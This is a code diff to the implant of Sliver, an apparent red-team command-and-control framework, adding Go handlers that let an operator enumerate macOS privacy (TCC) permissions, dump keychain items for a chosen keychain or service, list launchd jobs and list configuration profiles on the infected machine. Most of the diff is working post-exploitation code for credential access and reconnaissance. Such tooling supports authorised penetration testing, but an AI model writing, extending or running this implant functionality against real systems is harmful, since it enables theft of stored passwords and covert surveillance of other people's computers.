@@ -23,6 +23,7 @@ import (
 	"log"
 	// {{end}}
 
+	"github.com/bishopfox/sliver/implant/sliver/macos"
 	"github.com/bishopfox/sliver/implant/sliver/ps"
 	"github.com/bishopfox/sliver/protobuf/commonpb"
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
@@ -63,3 +64,72 @@ func psHandler(data []byte, resp RPCResponse) {
 	data, err = proto.Marshal(psList)
 	resp(data, err)
 }
+
+func tccHandler(data []byte, resp RPCResponse) {
+	tccReq := &sliverpb.TCCReq{}
+	err := proto.Unmarshal(data, tccReq)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	tcc := &sliverpb.TCC{Response: &commonpb.Response{}}
+	tcc.Entries, tcc.FullDiskAccess, tcc.Errors = macos.TCC()
+	data, err = proto.Marshal(tcc)
+	resp(data, err)
+}
+
+func keychainHandler(data []byte, resp RPCResponse) {
+	keychainReq := &sliverpb.KeychainReq{}
+	err := proto.Unmarshal(data, keychainReq)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	keychain := &sliverpb.Keychain{Response: &commonpb.Response{}}
+	keychain.Items, err = macos.Keychain(keychainReq.Keychain, keychainReq.Service, keychainReq.Dump)
+	if err != nil {
+		keychain.Response = sliverpb.ErrorResponse(err)
+	}
+	data, err = proto.Marshal(keychain)
+	resp(data, err)
+}
+
+func launchdHandler(data []byte, resp RPCResponse) {
+	launchdReq := &sliverpb.LaunchdReq{}
+	err := proto.Unmarshal(data, launchdReq)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	launchd := &sliverpb.Launchd{Response: &commonpb.Response{}}
+	launchd.Jobs, err = macos.Launchd(launchdReq.System)
+	if err != nil {
+		launchd.Response = sliverpb.ErrorResponse(err)
+	}
+	data, err = proto.Marshal(launchd)
+	resp(data, err)
+}
+
+func configProfilesHandler(data []byte, resp RPCResponse) {
+	profilesReq := &sliverpb.ConfigProfilesReq{}
+	err := proto.Unmarshal(data, profilesReq)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	profiles := &sliverpb.ConfigProfiles{Response: &commonpb.Response{}}
+	profiles.Profiles, err = macos.ConfigProfiles()
+	if err != nil {
+		profiles.Response = sliverpb.ErrorResponse(err)
+	}
+	data, err = proto.Marshal(profiles)
+	resp(data, err)
+}